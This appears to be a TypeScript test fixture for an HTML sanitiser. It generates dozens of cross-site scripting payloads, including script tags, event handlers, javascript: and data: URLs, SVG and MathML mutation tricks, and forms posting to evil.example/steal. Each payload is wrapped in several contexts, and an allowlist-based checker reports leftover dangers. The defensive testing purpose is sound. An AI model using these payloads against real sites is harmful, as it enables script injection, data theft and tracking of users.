/*
 * Hostile platform HTML, built systematically: each attack vector inside each context, and what a
 * sanitised result may still hold. The browser's renderer and the server's are both held to it.
 */

const EVIL = 'https://evil.example';
const RUN = 'window.__pwned=1';
export const ALLOWED_HOST = 'img.tala.example';

const vectors: string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<script type="module">${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img src="/cdn/ok.png" onload="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${EVIL}/a.png'/></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<svg><image href="${EVIL}/i.png"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<frameset onload="${RUN}"><frame src="${EVIL}"></frameset>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="java&#9;script:${RUN}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="${EVIL}" ping="${EVIL}/ping" target="_top">x</a>`,
  `<a href="${EVIL}" target="_self" download>x</a>`,
  `<area href="javascript:${RUN}">`,
  `<form action="${EVIL}/steal"><input name=a value=b><button>go</button></form>`,
  `<button formaction="${EVIL}/steal">go</button>`,
  `<input type="image" src="${EVIL}/i.png" formaction="javascript:${RUN}">`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="${EVIL}/">`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<link rel="prefetch" href="${EVIL}/p">`,
  `<style>@import '${EVIL}/x.css';</style>`,
  `<style>body{background:url(${EVIL}/bg.png)}</style>`,
  `<div style="background:url(${EVIL}/bg.png)">x</div>`,
  `<div style="background-image: image-set('${EVIL}/a.png' 1x)">x</div>`,
  `<div style="width: expression(${RUN})">x</div>`,
  `<div style="behavior: url(${EVIL}/x.htc)">x</div>`,
  `<div style="background:\\75 rl(${EVIL}/bg.png)">x</div>`,
  `<div style="--x: url(${EVIL}/v.png); color: red">x</div>`,
  `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">overlay</div>`,
  `<p style="color: red; list-style-image: url(${EVIL}/l.png)">x</p>`,
  `<img src="${EVIL}/track.png">`,
  `<img src="//evil.example/track.png">`,
  `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x" src="/cdn/ok.png">`,
  `<img src="data:image/svg+xml,<svg onload='${RUN}'/>">`,
  `<img src="javascript:${RUN}">`,
  `<picture><source srcset="${EVIL}/p.png"><img src="/cdn/ok.png"></picture>`,
  `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay onplay="${RUN}"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay onplay="${RUN}"></audio>`,
  `<object data="${EVIL}/o.swf"></object>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${EVIL}/e.swf">`,
  `<embed src="javascript:${RUN}">`,
  `<table background="${EVIL}/t.png"><tr><td background="${EVIL}/td.png">x</td></tr></table>`,
  `<body onload="${RUN}" background="${EVIL}/b.png">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<div onmouseover="${RUN}" onclick="${RUN}">hover</div>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"><option>x</option></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `<!--<img src="--><img src=x onerror="${RUN}">-->`,
  `<div id="root" name="cookie">clobber</div><form name="location"></form>`,
  `<custom-el onclick="${RUN}"><img src=x onerror="${RUN}"></custom-el>`,
  `<font color="red" face="x" onmouseover="${RUN}">x</font>`,
  `<portal src="${EVIL}/portal"></portal>`,
  `<dialog open onclose="${RUN}">x</dialog>`,
  `<h1 onclick="${RUN}">title</h1>`,
];

const wrappers: ((vector: string) => string)[] = [
  (v) => v,
  (v) => `<p>${v}</p>`,
  (v) => `<div><span>${v}</span></div>`,
  (v) => `<table><tr><td>${v}</td></tr></table>`,
  (v) => `<ul><li><font>${v}</font></li></ul>`,
  (v) => `<svg><desc>${v}</desc></svg>`,
];

export const payloads = vectors.flatMap((vector) => wrappers.map((wrap) => wrap(vector)));

const ALLOWED = new Set(
  'a abbr b blockquote br caption code col colgroup dd del div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins li mark ol p pre s section small span strong sub sup table tbody td tfoot th thead tr u ul'.split(
    ' ',
  ),
);
const SAFE_ATTRIBUTES = new Set([
  'title',
  'dir',
  'lang',
  'style',
  'href',
  'target',
  'rel',
  'src',
  'alt',
  'width',
  'height',
  'loading',
  'decoding',
  'referrerpolicy',
  'colspan',
  'rowspan',
  'align',
  'scope',
  'start',
  'type',
  'span',
]);

/** What the rendered nodes could still do, described in words (empty when nothing). */
export function dangersIn(root: Element, pageAddress: string, imageHost: string): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName;
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`foreign element ${name}`);
    if (!ALLOWED.has(name)) found.push(`element ${name}`);
    for (const attribute of element.attributes) {
      if (!SAFE_ATTRIBUTES.has(attribute.name)) found.push(`attribute ${attribute.name} on ${name}`);
    }
    const style = element.getAttribute('style') ?? '';
    if (/url\(|expression|image-set|\\|@import|position/i.test(style)) found.push(`style ${style}`);
    if (name === 'a' && element.hasAttribute('href')) {
      const url = new URL(element.getAttribute('href')!, pageAddress);
      if (!['http:', 'https:', 'mailto:', 'tel:'].includes(url.protocol)) found.push(`link ${url.href}`);
      if (element.getAttribute('target') !== '_blank' || !/noopener/.test(element.getAttribute('rel') ?? ''))
        found.push('link opening in the app');
    } else if (element.hasAttribute('href')) found.push(`href on ${name}`);
    if (element.hasAttribute('src')) {
      const url = new URL(element.getAttribute('src')!, pageAddress);
      if (name !== 'img') found.push(`src on ${name}`);
      if (![new URL(pageAddress).host, imageHost].includes(url.host) || !/^https?:$/.test(url.protocol))
        found.push(`image from ${url.href}`);
    }
  }
  return found;
}
